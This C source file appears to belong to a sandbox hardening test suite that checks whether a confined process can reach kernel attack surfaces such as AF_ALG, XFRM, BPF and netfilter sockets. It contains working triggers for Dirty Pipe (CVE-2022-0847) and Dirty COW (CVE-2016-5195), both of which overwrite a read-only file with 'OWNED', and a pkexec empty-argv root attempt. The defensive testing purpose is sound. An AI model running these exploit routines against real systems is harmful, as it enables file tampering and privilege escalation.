/*
 * Class H: the first step of attacks on kernel bugs. Whether this kernel still has the bug does not matter here: what
 * is tested is that the code with the bug is not reached, so a step counts as a success when the kernel's own code
 * answers.
 */
#include "attack.h"
#include <grp.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>

static void socket_of(const char *name, int family, int type, int protocol) {
    reach(name, close_if_open(socket(family, type, protocol)));
}

static void honest_sockets(void) {
    near("TCP", close_if_open(socket(AF_INET, SOCK_STREAM, 0)));
    near("AF_UNIX", close_if_open(socket(AF_UNIX, SOCK_DGRAM, 0)));
}

static void copy_fail(void) {
    socket_of("AF_ALG", 38, SOCK_SEQPACKET, 0);
    honest_sockets();
}

static void esp(void) {
    socket_of("NETLINK_XFRM", AF_NETLINK, SOCK_RAW, 6);
    int udp = socket(AF_INET, SOCK_DGRAM, 0), tcp = socket(AF_INET, SOCK_STREAM, 0),
        six = socket(AF_INET6, SOCK_STREAM, 0);
    int kind = 2;
    step("UDP_ENCAP", setsockopt(udp, IPPROTO_UDP, 100, &kind, sizeof kind));
    reach("TCP_ULP", setsockopt(tcp, IPPROTO_TCP, TCP_ULP, "espintcp", 8));
    reach("IP_XFRM_POLICY", setsockopt(udp, IPPROTO_IP, 17, &kind, sizeof kind));
    reach("IPV6_XFRM_POLICY", setsockopt(six, IPPROTO_IPV6, 35, &kind, sizeof kind));
    int on = 1;
    near("TCP_NODELAY", setsockopt(tcp, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on));
}

static void rds(void) {
    socket_of("AF_RDS", 21, SOCK_SEQPACKET, 0);
    honest_sockets();
}

/* Asks for a queueing discipline on loopback; the answer is the kernel's own. */
static void traffic_control(void) {
    struct {
        struct nlmsghdr header;
        struct tcmsg message;
    } ask = {{sizeof ask, RTM_NEWQDISC, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0},
             {.tcm_family = AF_UNSPEC, .tcm_ifindex = 1, .tcm_handle = 0x10000, .tcm_parent = 0xffffffff}};
    int fd = socket(AF_NETLINK, SOCK_RAW, 0);
    struct {
        struct nlmsghdr header;
        struct nlmsgerr error;
        char rest[512];
    } answer = {0};
    near("a route socket", fd);
    if (send(fd, &ask, sizeof ask, 0) < 0 || recv(fd, &answer, sizeof answer, 0) < 0)
        reach("qdisc", -1);
    else {
        errno = -answer.error.error;
        reach("qdisc", errno ? -1 : 0);
    }
}

static void sctp(void) {
    socket_of("SCTP", AF_INET, SOCK_STREAM, 132);
    socket_of("SCTP, one to many", AF_INET6, SOCK_SEQPACKET, 132);
    honest_sockets();
}

static void legacy_parameters(void) {
    reach("fsopen", close_if_open(syscall(SYS_fsopen, "ext4", 0)));
    near("statfs", statfs("/", &(struct statfs){0}));
}

static void packet_filters(void) {
    socket_of("NETLINK_NETFILTER", AF_NETLINK, SOCK_RAW, 12);
    int tcp = socket(AF_INET, SOCK_STREAM, 0), six = socket(AF_INET6, SOCK_STREAM, 0);
    char table[128] = "filter";
    reach("IPT_SO_SET_REPLACE", setsockopt(tcp, IPPROTO_IP, 64, table, sizeof table));
    reach("IP6T_SO_SET_REPLACE", setsockopt(six, IPPROTO_IPV6, 64, table, sizeof table));
    reach("ARPT_SO_SET_REPLACE", setsockopt(tcp, IPPROTO_IP, 96, table, sizeof table));
    honest_sockets();
}

static void packet_rings(void) {
    socket_of("AF_PACKET, raw", AF_PACKET, SOCK_RAW, 0);
    socket_of("AF_PACKET, datagram", AF_PACKET, SOCK_DGRAM, 0);
    honest_sockets();
}

static void programs_in_the_kernel(void) {
    char attributes[128] = {0};
    *(uint32_t *)(void *)attributes = 1; /* a socket filter of nothing */
    reach("bpf", close_if_open(syscall(SYS_bpf, 5, attributes, sizeof attributes)));
    uint32_t map[5] = {2, 4, 4, 1, 0};
    reach("bpf map", close_if_open(syscall(SYS_bpf, 0, map, sizeof map)));
    honest_sockets();
}

static void vsock(void) {
    socket_of("AF_VSOCK", 40, SOCK_STREAM, 0);
    honest_sockets();
}

static void empty_argv(void) {
    /* pkexec reads past its arguments when there are none; with no_new_privs that wins nothing. */
    pid_t child = fork();
    if (child == 0) {
        int null = open("/dev/null", O_RDWR);
        dup2(null, 1), dup2(null, 2);
        char *none[] = {NULL};
        if (getuid() == 0 && (setgroups(0, NULL) || setresgid(1500, 1500, 1500) || setresuid(1500, 1500, 1500)))
            _exit(99);
        execve(argument("setuid"), none, none);
        _exit(97);
    }
    int status = 0;
    near("wait", waitpid(child, &status, 0));
    errno = EPERM;
    step("root by a set-uid program without arguments", WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1);
}

/* CVE-2022-0847: does a page of a read-only file change when a pipe is spliced from it and written to? */
static void dirty_pipe(void) {
    const char *path = in(argument("ro"), "kept.txt");
    int changed = 0, rounds = 0;
    for (; rounds < 1000; rounds++) {
        int ends[2], file = open(path, O_RDONLY | O_CLOEXEC);
        char page[4096] = {0};
        if (file < 0 || pipe(ends))
            break;
        int size = fcntl(ends[1], F_GETPIPE_SZ);
        for (int left = size; left > 0; left -= 4096)
            if (write(ends[1], page, 4096) < 0)
                break;
        for (int left = size; left > 0; left -= 4096)
            if (read(ends[0], page, 4096) < 0)
                break;
        loff_t offset = 0;
        if (splice(file, &offset, ends[1], NULL, 1, 0) > 0 && write(ends[1], "OWNED", 5) == 5)
            changed += holds(path, "OWNED") == 0;
        close(file), close(ends[0]), close(ends[1]);
    }
    print("note %d rounds\n", rounds);
    errno = EACCES;
    step("page of a read-only file", changed ? 0 : -1);
    near("rounds", rounds == 1000 ? 0 : -1);
}

/* CVE-2016-5195 and its shmem cousin, one form of it: madvise against writes to /proc/self/mem. */
static void dirty_cow(void) {
    const char *path = in(argument("ro"), "kept.txt");
    int file = open(path, O_RDONLY | O_CLOEXEC), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    near("own memory", memory);
    pid_t child = fork();
    if (child == 0)
        for (;;)
            madvise(map, 4096, MADV_DONTNEED);
    for (int round = 0; round < 5000; round++)
        if (pwrite(memory, "OWNED", 5, (off_t)(intptr_t)map) < 0)
            break;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    step("page of a read-only file", holds(path, "OWNED"));
}

ATTACKS({"C103", dirty_pipe}, {"C104", dirty_cow}, {"C105", copy_fail}, {"C106", esp}, {"C107", rds},
        {"C108", traffic_control}, {"C109", sctp}, {"C110", legacy_parameters}, {"C111", packet_filters},
        {"C112", packet_rings}, {"C113", programs_in_the_kernel}, {"C114", vsock}, {"C116", empty_argv})
